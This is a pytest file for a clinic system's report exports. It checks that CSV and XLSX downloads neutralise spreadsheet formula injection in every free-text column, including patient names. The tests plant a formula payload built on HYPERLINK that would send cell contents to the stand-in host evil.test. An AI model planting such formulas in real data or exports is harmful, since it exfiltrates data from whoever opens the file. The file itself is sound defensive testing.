"""No export can attack the person who opens it: a cell starting with =, +, -, @, tab or carriage return
is never a formula, in any CSV or XLSX export, whichever text column it hides in."""

import csv
import io

import pytest
from openpyxl import load_workbook

from accounts.models import Role, User
from reports.exports import REGISTRY

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
KEYS = ["appointments", "sessions", "needle_points", "side_effects", "psfs", "payments"]
PAYLOAD = 'HYPERLINK("http://evil.test/?x="&A1,"Click")'


def params(report_filter, **extra):
    return {"start": report_filter.start.isoformat(), "end": report_filter.end.isoformat(), **extra}


def plant(clinic, key, value):
    """Put `value` in a free-text column the export `key` carries; returns that column's header."""
    from appointments.models import Appointment
    from treatments.models import Muscle, SideEffect

    if key == "appointments":
        Appointment.objects.filter(status="cancelled").update(cancel_reason=value)
        return "Cancel reason"
    if key == "sessions":
        User.objects.filter(pk=clinic.anna.pk).update(full_name=value)
        return "Clinician"
    if key == "needle_points":
        Muscle.objects.filter(name="Infraspinatus").update(name=value)
        return "Muscle"
    if key == "side_effects":
        SideEffect.objects.filter(session=clinic.sessions["covered"]).update(action_taken=value)
        return "Action taken"
    if key == "psfs":
        # Kept as scored (the trigger refuses UPDATE): the planted activity is a new scoring's.
        from tests.reports.conftest import add_psfs

        session = clinic.sessions["covered"]
        add_psfs(session.patient, clinic.anna, session.started_at, [(value, 5)])
        return "Activity"
    if key == "payments":
        # A receipt on one of Anna's completed visits in the range; her name is the planted text.
        from appointments.models import Payment

        visit = Appointment.objects.filter(therapist=clinic.anna, status="completed").first()
        Payment.objects.create(
            appointment=visit, amount="95.00", method="cash", receipt_number=1, recorded_by=clinic.ben,
            recorded_at=visit.start,
        )  # fmt: skip
        User.objects.filter(pk=clinic.anna.pk).update(full_name=value)
        return "Clinician"
    raise AssertionError(key)


def test_every_export_is_covered_here():
    assert set(REGISTRY) == set(KEYS)


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
@pytest.mark.parametrize("key", KEYS)
def test_csv_cells_that_would_be_formulas_get_a_leading_apostrophe(clinic, client_for, key, prefix):
    value = prefix + PAYLOAD
    header = plant(clinic, key, value)
    response = client_for(Role.MANAGER).get(f"/reports/exports/{key}/", params(clinic.report_filter))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    column = rows[0].index(header)
    cells = [row[column] for row in rows[1:] if PAYLOAD in row[column]]
    assert cells, f"the planted value is not in the {key} export"
    assert all(cell == "'" + value for cell in cells)


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
@pytest.mark.parametrize("key", KEYS)
def test_xlsx_cells_that_would_be_formulas_are_text(clinic, client_for, key, prefix):
    value = prefix + PAYLOAD
    header = plant(clinic, key, value)
    response = client_for(Role.MANAGER).get(
        f"/reports/exports/{key}/", params(clinic.report_filter, file_format="xlsx")
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows())
    column = [cell.value for cell in rows[0]].index(header)
    cells = [row[column] for row in rows[1:] if PAYLOAD in str(row[column].value)]
    assert cells
    for cell in cells:
        assert cell.data_type == "s"  # text, not "f" (formula)
        # Shown as typed (XML reads a carriage return back as a line feed).
        assert cell.value.replace("\n", "\r") == value.replace("\n", "\r")
        assert cell.quotePrefix  # and kept as text if someone edits it


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_patient_names_in_an_administrators_export_are_neutralised_too(clinic, client_for, prefix):
    from patients.models import Patient

    Patient.objects.filter(pk=clinic.sessions["ben"].patient_id).update(given_name=prefix + PAYLOAD)
    client = client_for(Role.ADMIN)
    response = client.get("/reports/exports/sessions/", params(clinic.report_filter, names="on"))
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body, newline="")))
    names = [row[rows[0].index("Given name")] for row in rows[1:]]
    assert "'" + prefix + PAYLOAD in names
    response = client.get(
        "/reports/exports/sessions/", params(clinic.report_filter, names="on", file_format="xlsx")
    )
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).endswith(PAYLOAD)]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_ordinary_text_and_numbers_are_unchanged(clinic, client_for):
    rows = list(
        csv.reader(
            io.StringIO(
                b"".join(
                    client_for(Role.MANAGER)
                    .get("/reports/exports/appointments/", params(clinic.report_filter))
                    .streaming_content
                ).decode()
            )
        )
    )
    header = rows[0]
    assert "Patient unwell" in [row[header.index("Cancel reason")] for row in rows[1:]]
    assert {row[header.index("Therapist")] for row in rows[1:]} == {"Anna Physio", "Ben Physio"}
